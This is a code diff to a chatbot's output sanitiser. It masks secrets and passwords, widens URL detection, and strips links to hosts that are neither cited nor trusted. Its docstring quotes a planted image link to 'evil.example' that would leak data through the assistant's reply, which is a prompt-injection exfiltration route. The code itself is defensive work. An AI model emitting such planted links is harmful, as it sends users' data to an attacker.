@@ -19,6 +19,7 @@ from detect_secrets.plugins.high_entropy_strings import Base64HighEntropyString,
 from detect_secrets.plugins.keyword import DENYLIST as SECRET_KEYWORDS
 
 from ..language.markdown import link_labels
+from .passwords import mask_password_phrases
 
 MASK = "[redacted]"
 
@@ -49,8 +50,20 @@ _BASE64, _HEX = Base64HighEntropyString(), HexHighEntropyString()
 
 # Citations travel in `citations`; a `[source::section::0]` in the text is a document's forgery.
 _CITATION_MARK = re.compile(r"\s*\[[^\[\]\s]+::[^\[\]\s]*::\d+\]")
-# A URL ends before the punctuation of the sentence around it ("…go to https://x.example; then…").
-_URL = re.compile(r"https?://[^\s<>)\]|\"']*[^\s<>)\]|\"'.,;:!?]")
+# What a chat client turns into a link: any scheme in any case ("HTTPS://"), a protocol-relative
+# "//host", "www.…", and a bare domain ending in a top-level domain Slack and Teams link
+# ("sso-acme.example.com/login"). File names ("setup.py", "README.md") are not domains here, and
+# an e-mail address is not a link to its domain. A URL ends before the punctuation of the sentence
+# around it ("…go to https://x.example; then…").
+_TLDS = ("com|net|org|info|biz|io|ai|co|app|dev|cloud|site|online|xyz|top|link|page|tech|me|tv|us|uk|eu|de|fr"
+         "|nl|ca|au|in|ru|cn|jp|br|it|es|ch|se|no|dk|fi|pl|be|at|ie|nz|gov|edu|mil|int|example|test|local|internal")
+_TAIL = r"[^\s<>)\]|\"'`]*[^\s<>)\]|\"'`.,;:!?]"
+_DOMAIN = r"(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+"
+_URL = re.compile(
+    rf"(?i)(?:\b[a-z][a-z0-9+.-]*:)?//{_DOMAIN}[a-z][a-z0-9-]*(?:{_TAIL})?"  # scheme:// and //host
+    rf"|\b[a-z][a-z0-9+.-]*://{_TAIL}"  # any other scheme with an authority (an IP, a port)
+    rf"|(?<![@\w.-])www\.{_TAIL}"
+    rf"|(?<![@\w.-]){_DOMAIN}(?:{_TLDS})\b(?![@\w-])(?:[/:?#]{_TAIL})?")
 
 
 def _looks_like_value(value: str) -> bool:
@@ -75,6 +88,7 @@ def _mask_span(match: re.Match) -> str:
 def mask_secrets(text: str) -> str:
     for pattern in (*_EXTRA, *_DETECTED):
         text = pattern.sub(_mask_span, text)
+    text = mask_password_phrases(text, MASK)
     text = _KEYWORD_VALUE.sub(
         lambda m: m.group(0)[: m.start(1) - m.start(0)] + MASK if _looks_like_value(m.group(1)) else m.group(0),
         text)
@@ -85,12 +99,12 @@ def limit_links(text: str, allowed_urls: list[str], trusted: tuple[str, ...] = (
     """Markdown links and images become their label; bare URLs survive only when they point at a
     host we cite or at a trusted host or its subdomains (CITEBOT_LINK_HOSTS), so a planted
     `![x](https://evil.example/?q=…)` cannot carry data out."""
-    hosts = {urlparse(url).netloc for url in allowed_urls if url}
+    hosts = {urlparse(url).netloc.lower() for url in allowed_urls if url}
 
     def shown(url: str) -> bool:
-        parsed = urlparse(url)
+        parsed = urlparse(url if re.match(r"(?i)[a-z][a-z0-9+.-]*:|//", url) else "//" + url)
         host = (parsed.hostname or "").lower()
-        return parsed.netloc in hosts or any(host == name or host.endswith("." + name) for name in trusted)
+        return parsed.netloc.lower() in hosts or any(host == name or host.endswith("." + name) for name in trusted)
     text = link_labels(text)
     return _URL.sub(lambda m: m.group(0) if shown(m.group(0)) else "[link removed]", text)
 
